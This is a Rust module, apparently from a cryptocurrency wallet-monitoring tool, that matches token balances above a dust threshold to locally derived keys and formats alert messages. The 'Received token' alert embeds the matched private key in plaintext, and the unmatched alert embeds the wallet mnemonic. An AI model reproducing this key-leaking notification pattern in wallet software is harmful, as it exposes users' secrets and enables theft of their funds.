//! Maps remote asset snapshots back to locally-derived key material

use tracing::debug;

use super::types::{MatchedTokenInfo, TokenAsset, WalletAccount};

/// Outcome for one non-dust asset
#[derive(Debug, Clone, PartialEq)]
pub enum AssetMatch {
    /// The asset address belongs to one of the wallet's derived keys
    Matched(MatchedTokenInfo),
    /// No derived key in the wallet controls this address
    Unmatched {
        asset: TokenAsset,
        token_value: f64,
        mnemonic: String,
    },
}

impl AssetMatch {
    pub fn is_matched(&self) -> bool {
        matches!(self, AssetMatch::Matched(_))
    }

    pub fn asset(&self) -> &TokenAsset {
        match self {
            AssetMatch::Matched(info) => &info.asset,
            AssetMatch::Unmatched { asset, .. } => asset,
        }
    }

    /// Notification text for this outcome
    pub fn message(&self) -> String {
        match self {
            AssetMatch::Matched(info) => format!(
                "🔔 Received token, token address: {}, token: {}, amount: {}, price: {}, total value: {}, chain: {}, private key: {}",
                info.asset.address,
                info.asset.symbol,
                info.asset.balance,
                info.asset.token_price,
                info.token_value,
                info.asset.chain_name(),
                info.private_key,
            ),
            AssetMatch::Unmatched { asset, mnemonic, .. } => format!(
                "⚠️ No matching private key, token address: {}, token: {}, amount: {}, price: {}, chain: {}, wallet address: {}, mnemonic: {}",
                asset.address,
                asset.symbol,
                asset.balance,
                asset.token_price,
                asset.chain_name(),
                asset.address,
                mnemonic,
            ),
        }
    }
}

/// Dust-filters assets and resolves each to a derived private key
#[derive(Debug, Clone)]
pub struct AccountMatcher {
    /// Minimum balance x price kept (inclusive)
    min_value: f64,
}

impl AccountMatcher {
    pub fn new(min_value: f64) -> Self {
        Self { min_value }
    }

    pub fn is_dust(&self, asset: &TokenAsset) -> bool {
        asset.token_value() < self.min_value
    }

    /// Match `assets` reported for `remote_account_id` against `wallets`.
    ///
    /// Returns an empty list when no wallet carries that id. Within the wallet,
    /// bundles are scanned in index order and the first hit wins.
    pub fn match_assets(
        &self,
        remote_account_id: &str,
        assets: &[TokenAsset],
        wallets: &[WalletAccount],
    ) -> Vec<AssetMatch> {
        let Some(wallet) = wallets
            .iter()
            .find(|w| w.remote_account_id.as_deref() == Some(remote_account_id))
        else {
            debug!("No local wallet for remote account {}", remote_account_id);
            return Vec::new();
        };

        assets
            .iter()
            .filter(|asset| !self.is_dust(asset))
            .map(|asset| self.match_one(asset, wallet))
            .collect()
    }

    fn match_one(&self, asset: &TokenAsset, wallet: &WalletAccount) -> AssetMatch {
        let token_value = asset.token_value();

        let mut bundles: Vec<_> = wallet.accounts.iter().collect();
        bundles.sort_by_key(|b| b.index);

        for bundle in bundles {
            if let Some(entry) = bundle.find_address(&asset.address) {
                return AssetMatch::Matched(MatchedTokenInfo {
                    asset: asset.clone(),
                    token_value,
                    private_key: entry.private_key.clone(),
                    mnemonic: wallet.mnemonic.clone(),
                    chain: entry.chain,
                    derivation_index: bundle.index,
                });
            }
        }

        AssetMatch::Unmatched {
            asset: asset.clone(),
            token_value,
            mnemonic: wallet.mnemonic.clone(),
        }
    }
}

impl Default for AccountMatcher {
    fn default() -> Self {
        Self::new(1.0)
    }
}
